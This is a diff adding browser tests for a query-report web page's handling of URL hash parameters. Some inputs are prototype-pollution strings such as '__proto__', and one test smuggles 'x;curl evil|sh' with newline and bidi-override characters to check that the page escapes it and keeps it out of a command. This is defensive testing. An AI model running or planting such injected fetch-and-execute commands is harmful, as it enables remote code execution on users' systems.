@@ -176,3 +176,50 @@ def test_lines_are_drawn_as_they_are_needed(watched: Watched) -> None:
     page.locator("button[data-more=later]").scroll_into_view_if_needed()
     expect(page.locator("li.query")).to_have_count(64)
     expect(page.locator("button[data-more]")).to_have_count(0)
+
+
+@pytest.mark.parametrize(
+    "asked",
+    [
+        "sort=__proto__", "sort=constructor", "sort=never", "engine=__proto__", "engine=0", "engine=Dot",
+        "grade=99", "grade=-1", "verdict=toString", "ql=tlh", "c.device=never", "c.never=phone",
+        "c.__proto__=x", "lang=__proto__",
+    ],
+)  # fmt: skip
+def test_what_an_address_asks_for_and_is_not_there_is_ignored(
+    browser: Browser, report: Path, asked: str
+) -> None:
+    with opened(browser, f"{address_of(report)}#{asked}", locale="zh-CN") as found:
+        assert listed(found.page) == [f"q{number}" for number in range(64)]
+        expect(found.page.locator(".count")).to_have_text("共 64 条查询")
+        assert (
+            found.page.locator("select").evaluate_all("all => all.map((each) => each.value).join('')") == ""
+        )
+        assert found.complaints == []
+
+
+def test_an_address_holds_an_engine_by_its_name(watched: Watched) -> None:
+    ask(watched.page, {"engine": "Cyd", "grade": "0"})
+    assert watched.page.url.endswith("#engine=Cyd&grade=0")
+
+
+def test_a_query_that_is_not_there_is_named_with_nothing_hidden_and_in_no_command(
+    browser: Browser, report: Path
+) -> None:
+    address = f"{address_of(report)}#q=x;curl+evil|sh%0A%E2%80%AE%E2%81%A9"
+    with opened(browser, address, locale="en-US") as found:
+        said = found.page.locator(".count").text_content() or ""
+        assert "Query \u2068x;curl evil|sh\\x0a\\x202e\\x2069\u2069 is not on this page" in said
+        assert "--query" not in said
+
+
+def test_it_prints_every_query_that_is_found(watched: Watched) -> None:
+    page = watched.page
+    assert page.locator("li.query").count() == 60
+    page.evaluate("dispatchEvent(new Event('beforeprint'))")
+    assert page.locator("li.query").count() == len(listed(page)) == 64
+    assert page.locator("li.more").count() == 0
+    page.evaluate("location.hash = '#q=q62'")
+    expect(page.locator("li.more.earlier")).to_have_count(1)
+    page.evaluate("dispatchEvent(new Event('beforeprint'))")
+    assert page.locator("li.query").count() == 64
